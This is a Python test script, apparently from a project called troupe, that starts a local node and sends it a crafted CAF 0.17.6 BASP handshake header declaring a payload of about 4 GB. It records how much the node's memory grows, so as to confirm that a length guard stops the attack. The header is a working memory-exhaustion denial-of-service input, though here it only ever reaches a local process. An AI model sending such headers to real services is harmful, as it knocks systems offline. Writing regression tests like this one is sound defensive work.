#!/usr/bin/env python3
"""Sends a crafted CAF 0.17.6 BASP header (client_handshake, payload_len ~4 GB) to a
`troupe node` and reports the node's RSS (VmRSS, /proc) before and after.
usage: scripts/crafted-basp-header.py TROUPE_EXE SECRET_FILE  (WATCH_S: seconds to watch, default 5)
Ran against main before the link guard: 168 MB -> 2.07 GB in 20 s, connection kept; after: +2 MB, reset."""
import os, socket, struct, subprocess, sys, tempfile, time

exe, secret = sys.argv[1], sys.argv[2]
work = tempfile.mkdtemp(prefix="troupe-crafted-")
portfile = os.path.join(work, "port")
log = open(os.path.join(work, "node.log"), "w")
node = subprocess.Popen([exe, "node", "--host", "127.0.0.1", "--port", "0", "--secret-file", secret,
                         "--port-file", portfile], stdout=log, stderr=log)
def rss_kb():
    for line in open(f"/proc/{node.pid}/status"):
        if line.startswith("VmRSS:"): return int(line.split()[1])
for _ in range(600):
    if os.path.exists(portfile): break
    time.sleep(0.1)
port = int(open(portfile).read())
time.sleep(1)
before = rss_kb()
# op=1 (client_handshake), pads, flags, payload_len big-endian, op_data, src, dst
hdr = struct.pack(">BBBBIQQQ", 1, 0, 0, 0, 0xFFFFFF00, 0, 0, 0)
s = socket.create_connection(("127.0.0.1", port))
try:
    s.sendall(hdr + b"\0" * (1 << 20))
except OSError as e:
    print("send:", e)
peak = before
for _ in range(int(os.environ.get("WATCH_S", "5")) * 10):
    time.sleep(0.1)
    peak = max(peak, rss_kb() or 0)
s.settimeout(0.5)
got = 0
try:
    while True:
        b = s.recv(1 << 16)
        if not b:
            state = f"closed by the node ({got} bytes came first)"
            break
        got += len(b)
except socket.timeout:
    state = f"still open ({got} bytes came)"
except OSError as e:
    state = f"reset ({e}; {got} bytes came first)"
print(f"node RSS before {before} kB, peak after the header {peak} kB; connection: {state}")
print(f"node log: {log.name}")
node.kill()
